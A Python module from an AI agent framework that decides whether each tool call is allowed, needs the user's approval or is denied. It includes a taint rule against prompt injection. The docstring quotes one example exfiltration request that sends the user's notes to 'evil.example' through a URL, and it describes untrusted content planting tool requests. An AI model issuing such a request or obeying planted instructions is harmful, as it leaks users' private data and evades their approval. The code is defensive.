"""The policy decision for one tool call: allow, ask or deny, and the rule that decided.

Precedence, strongest first (documented in docs/policy.md):
0. not enabled — the tool is switched off for this user (`dadang tools enable|disable`).
1. deny — from the tool's rule, else from its risk level's rule. Nothing lifts a deny.
2. taint — after untrusted content entered the turn, any call that is not a plain read asks, and
   a read whose URL the model chose (`web_read`, `file_download`) that would contact a host the
   user did not name in their message asks too (a classic exfiltration path: "fetch
   https://evil.example/?q=<your notes>"; a host allowed by the scopes is readable, not trusted
   with data). API reads go to the host fixed in the tool file the user installed, so they do
   not ask. Grants and `allow` rules do not apply.
   Tools whose effects stay with the user (`Tool.stays_private`: a file sent to their own
   chat) are exempt: they cannot carry data anywhere.
3. a standing grant ("Always allow this") for the tool (and target) — never for payments.
4. the tool's rule (`tools:`), else its risk level's rule (`risk:`), else `unknown_tool`.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any

from agent.policy.rules import Decision, Policy
from automation.tools.base import CHOSEN_HOST_READS, RiskLevel, Tool
from memory.grants import GrantStore

_HOST = re.compile(
    r"(?:https?://)?((?:[a-z0-9-]+\.)+[a-z]{2,}|\d{1,3}(?:\.\d{1,3}){3}|localhost)(:\d{1,5})?"
)


@dataclass(frozen=True, kw_only=True)
class Verdict:
    """A decision with the rule behind it, in words the user and the model can act on."""

    decision: Decision
    rule: str
    """Which rule decided: `tools.memory_forget`, `risk.write`, `taint`, `grant#3`, …"""
    reason: str
    may_always_allow: bool = False
    """Whether "Always allow this" may be offered when asking."""

    def as_dict(self) -> dict[str, Any]:
        """For the graph state (checkpointed as JSON)."""
        return {
            "decision": self.decision.value,
            "rule": self.rule,
            "reason": self.reason,
            "may_always_allow": self.may_always_allow,
        }


def hosts_named(text: str) -> frozenset[str]:
    """Hosts (`host` and, when written, `host:port`) the user named themselves: the only
    destinations a tainted turn may contact without asking."""
    named: set[str] = set()
    for match in _HOST.finditer(text.lower()):
        named.add(match.group(1) + (match.group(2) or ""))
    return frozenset(named)


class PolicyEngine:
    """Evaluates `Policy` plus the user's grants; cheap enough to run before every call."""

    def __init__(self, policy: Policy, grants: GrantStore | None = None) -> None:
        self.policy = policy
        self._grants = grants

    def forbids(self, name: str, tool: Tool[Any] | None) -> bool:
        """Whether every call of the tool is denied (then the model is not even shown it)."""
        named = self.policy.tool_rule(name)
        base, _ = named if named is not None else self.policy.risk_rule(tool.risk if tool else None)
        return base is Decision.DENY

    async def decide(
        self,
        *,
        user_id: int,
        name: str,
        tool: Tool[Any] | None,
        target: str,
        tainted: bool = False,
        trusted_hosts: frozenset[str] = frozenset(),
        enabled: bool = True,
    ) -> Verdict:
        """The verdict for one call of `name` (a tool that may not exist: then it is unknown).

        `enabled` False: the tool is not switched on for this user (`dadang tools enable`).
        """
        if not enabled:
            return Verdict(
                decision=Decision.DENY,
                rule="not_enabled",
                reason=(
                    f"{name} is not enabled for this user; the owner can switch it on with "
                    f"`dadang tools enable {name} --user USER`"
                ),
            )
        risk: RiskLevel | None = tool.risk if tool is not None else None
        named = self.policy.tool_rule(name)
        base, rule = named if named is not None else self.policy.risk_rule(risk)
        rule = f"tools.{rule}" if named is not None else rule
        level = risk.value if risk is not None else "undeclared"
        if base is Decision.DENY:
            return Verdict(
                decision=Decision.DENY,
                rule=rule,
                reason=f"the policy forbids {name} ({level} risk; rule {rule} in policy.yaml)",
            )
        always = risk is not RiskLevel.PAYMENT and self.policy.rules.approvals.always_allow
        if tainted and not (tool is not None and tool.stays_private):
            if risk is not RiskLevel.READ:
                return Verdict(
                    decision=Decision.ASK,
                    rule="taint",
                    reason=(
                        "it was requested after reading untrusted content (a web page, file or "
                        "message from someone else) that could have planted the request"
                    ),
                )
            if tool is not None and tool.reads & CHOSEN_HOST_READS and target:
                host = target.lower()
                if host not in trusted_hosts:
                    return Verdict(
                        decision=Decision.ASK,
                        rule="taint",
                        reason=(
                            f"it would contact {host}, which you did not name, after reading "
                            "untrusted content (a way to leak data through a URL)"
                        ),
                    )
        if base is Decision.ALLOW:
            return Verdict(decision=Decision.ALLOW, rule=rule, reason="allowed")
        if always and self._grants is not None:
            grant = await self._grants.find(user_id, name, target)
            if grant is not None:
                return Verdict(
                    decision=Decision.ALLOW, rule=f"grant#{grant}", reason="you always allow it"
                )
        return Verdict(
            decision=Decision.ASK,
            rule=rule,
            reason=f"{level} actions need your approval (rule {rule} in policy.yaml)",
            may_always_allow=always,
        )
